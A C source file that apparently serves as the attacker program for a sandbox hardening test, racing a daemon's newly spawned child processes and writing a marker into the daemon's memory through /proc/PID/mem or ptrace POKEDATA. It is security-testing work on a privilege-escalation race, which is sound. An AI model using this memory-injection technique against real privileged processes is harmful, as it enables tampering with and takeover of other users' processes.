/* The attacker of test_vm_hardening.py::test_ptrace_race_never_reaches_boxd_memory (issue 11,
 * item 1), run inside the microVM box as boxd's run user, built static on the host.
 *
 *   vm_ptrace_attacker RANDOM_ADDR RANDOM_HEX MARKER_ADDR MARKER_HEX SECONDS
 *
 * RANDOM_ADDR is where boxd's AT_RANDOM bytes are (16 random bytes on its stack, RANDOM_HEX):
 * a process whose memory has those bytes at that address shares boxd's memory. MARKER_ADDR is
 * an 8-byte word of boxd's writable memory that nothing uses.
 *
 * For SECONDS it watches /proc/sys/kernel/ns_last_pid and hammers the next pid - the child of
 * boxd's next spawn - with open(/proc/PID/mem, O_RDWR) and, while that is refused,
 * PTRACE_ATTACH or PTRACE_SEIZE (alternately). Each success is recorded with the target's exe and
 * Uid line. When the target's memory is boxd's (the bytes at RANDOM_ADDR match), it writes
 * MARKER_HEX at MARKER_ADDR (through the mem fd, or PTRACE_POKEDATA) and prints a HIT line: the
 * test then finds the marker in boxd's memory. A mem fd stays bound to the memory it was opened
 * on, so an open inside the vfork window is a write into boxd even after the child execs.
 *
 * Output: HIT lines (at most 20), one "ok EXE|UIDS COUNT" line per distinct target of the other
 * successes, and a last "summary" line. The attacker never forks: every pid after its own is
 * boxd's doing. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/types.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define MAX_HITS 20
#define MAX_KINDS 16

static uint64_t random_addr, marker_addr;
static unsigned char random_bytes[16], marker[8];
static unsigned long n_hits, n_attach_tries;
static struct {
    char key[160];
    unsigned long n;
} kinds[MAX_KINDS];
static unsigned n_kinds, n_kinds_dropped;

static int hex(const char *s, unsigned char *out, size_t n)
{
    if (strlen(s) != 2 * n)
        return -1;
    for (size_t i = 0; i < n; i++) {
        unsigned v;
        if (sscanf(s + 2 * i, "%2x", &v) != 1)
            return -1;
        out[i] = (unsigned char)v;
    }
    return 0;
}

static double now(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static int read_last_pid(int fd)
{
    char buf[32];
    ssize_t n = pread(fd, buf, sizeof buf - 1, 0);
    if (n <= 0)
        return -1;
    buf[n] = '\0';
    return atoi(buf);
}

/* "EXE|Uid: r e s f" of pid, for the record. */
static void describe(pid_t pid, char *out, size_t len)
{
    char path[64], exe[96] = "?", uids[48] = "?";
    snprintf(path, sizeof path, "/proc/%d/exe", (int)pid);
    ssize_t n = readlink(path, exe, sizeof exe - 1);
    exe[n > 0 ? n : 1] = '\0';
    snprintf(path, sizeof path, "/proc/%d/status", (int)pid);
    FILE *f = fopen(path, "re");
    if (f) {
        char line[256];
        while (fgets(line, sizeof line, f))
            if (strncmp(line, "Uid:", 4) == 0) {
                char *p = line + 4;
                while (*p == '\t' || *p == ' ')
                    p++;
                snprintf(uids, sizeof uids, "%.47s", p);
                uids[strcspn(uids, "\n")] = '\0';
                for (char *q = uids; *q; q++)
                    if (*q == '\t')
                        *q = ' ';
            }
        fclose(f);
    }
    snprintf(out, len, "%s|%s", exe, uids);
}

static void record_other(pid_t pid)
{
    char key[160];
    describe(pid, key, sizeof key);
    for (unsigned i = 0; i < n_kinds; i++)
        if (strcmp(kinds[i].key, key) == 0) {
            kinds[i].n++;
            return;
        }
    if (n_kinds == MAX_KINDS) {
        n_kinds_dropped++;
        return;
    }
    snprintf(kinds[n_kinds].key, sizeof kinds[n_kinds].key, "%s", key);
    kinds[n_kinds++].n = 1;
}

static void hit(const char *how, pid_t pid, long wrote)
{
    char what[160];
    describe(pid, what, sizeof what);
    if (++n_hits <= MAX_HITS)
        printf("HIT %s pid=%d wrote=%ld %s\n", how, (int)pid, wrote, what);
}

/* Through an open mem fd: is it boxd's memory? Then write the marker. */
static void try_mem(pid_t pid, int fd)
{
    unsigned char buf[16];
    if (pread(fd, buf, sizeof buf, (off_t)random_addr) == (ssize_t)sizeof buf &&
        memcmp(buf, random_bytes, sizeof buf) == 0) {
        ssize_t w = pwrite(fd, marker, sizeof marker, (off_t)marker_addr);
        hit("mem", pid, (long)w);
    } else {
        record_other(pid);
    }
}

/* Attached and stopped (or gone): the same check through PEEKDATA/POKEDATA. */
static void try_traced(pid_t pid, int seize)
{
    int st;
    if (seize && ptrace(PTRACE_INTERRUPT, pid, 0, 0) < 0) {
        ptrace(PTRACE_DETACH, pid, 0, 0);
        return;
    }
    if (waitpid(pid, &st, __WALL) != pid || !WIFSTOPPED(st))
        return; /* it died: nothing to detach from */
    int same = 1;
    for (int i = 0; i < 2 && same; i++) {
        errno = 0;
        long w = ptrace(PTRACE_PEEKDATA, pid, (void *)(uintptr_t)(random_addr + 8u * i), 0);
        same = errno == 0 && memcmp(&w, random_bytes + 8 * i, 8) == 0;
    }
    if (same) {
        long m;
        memcpy(&m, marker, sizeof m);
        long r = ptrace(PTRACE_POKEDATA, pid, (void *)(uintptr_t)marker_addr, (void *)m);
        hit(seize ? "seize" : "attach", pid, r == 0 ? 8 : -errno);
    } else {
        record_other(pid);
    }
    ptrace(PTRACE_DETACH, pid, 0, 0);
}

enum { GONE, REFUSED, DONE };

static int try_pid(pid_t pid)
{
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/mem", (int)pid);
    int fd = open(path, O_RDWR | O_CLOEXEC);
    if (fd >= 0) {
        try_mem(pid, fd);
        close(fd);
        return DONE;
    }
    if (errno == ENOENT || errno == ESRCH)
        return GONE;
    int seize = (int)(n_attach_tries++ & 1);
    if (ptrace(seize ? PTRACE_SEIZE : PTRACE_ATTACH, pid, 0, 0) == 0) {
        try_traced(pid, seize);
        return DONE;
    }
    return errno == ESRCH ? GONE : REFUSED;
}

int main(int argc, char **argv)
{
    if (argc != 6 || hex(argv[2], random_bytes, sizeof random_bytes) < 0 ||
        hex(argv[4], marker, sizeof marker) < 0) {
        fprintf(stderr, "usage: %s RANDOM_ADDR RANDOM_HEX MARKER_ADDR MARKER_HEX SECONDS\n",
                argv[0]);
        return 2;
    }
    random_addr = strtoull(argv[1], NULL, 0);
    marker_addr = strtoull(argv[3], NULL, 0);
    double end = now() + atof(argv[5]);
    int lfd = open("/proc/sys/kernel/ns_last_pid", O_RDONLY | O_CLOEXEC);
    if (lfd < 0) {
        perror("ns_last_pid");
        return 1;
    }
    unsigned long tries = 0, refused = 0, gone = 0, done = 0, targets = 0, streak = 0,
                  longest = 0;
    pid_t longest_pid = 0;
    pid_t pid = read_last_pid(lfd) + 1;
    for (;;) {
        if ((++tries & 63) == 0 && now() > end)
            break;
        int r = try_pid(pid);
        if (r != REFUSED)
            streak = 0;
        if (r == DONE) {
            done++;
            targets++;
            pid++;
        } else if (r == REFUSED) {
            /* It exists and is not ours (yet): hammer it, unless newer pids exist. A spawn's
             * child that shares boxd's memory is the newest pid until it execs (the spawner
             * waits for that before the next spawn), so a pid refused while newer ones exist
             * is past that window (an exec helper on its own memory), or no spawn at all: a
             * root process that lives on would hold the attacker forever. */
            refused++;
            if (++streak > longest) {
                longest = streak;
                longest_pid = pid;
            }
            if ((refused & 7) == 0) {
                int last = read_last_pid(lfd);
                if (last > pid) {
                    targets += (unsigned long)(last - pid);
                    pid = last;
                    streak = 0;
                }
            }
            continue;
        } else {
            gone++;
            /* Not made yet, or gone: did boxd make it (or later ones) meanwhile? */
            int last = read_last_pid(lfd);
            if (last > pid) {
                targets += (unsigned long)(last - pid);
                pid = last; /* the newest may still be in its window */
            } else if (last == pid) {
                targets++;
                pid++;
            }
        }
    }
    for (unsigned i = 0; i < n_kinds; i++)
        printf("ok %s %lu\n", kinds[i].key, kinds[i].n);
    printf("summary tries=%lu refused=%lu gone=%lu done=%lu targets=%lu hits=%lu "
           "kinds_dropped=%u last_pid=%d longest_refused=%lu@%d\n",
           tries, refused, gone, done, targets, n_hits, n_kinds_dropped, read_last_pid(lfd),
           longest, (int)longest_pid);
    return 0;
}
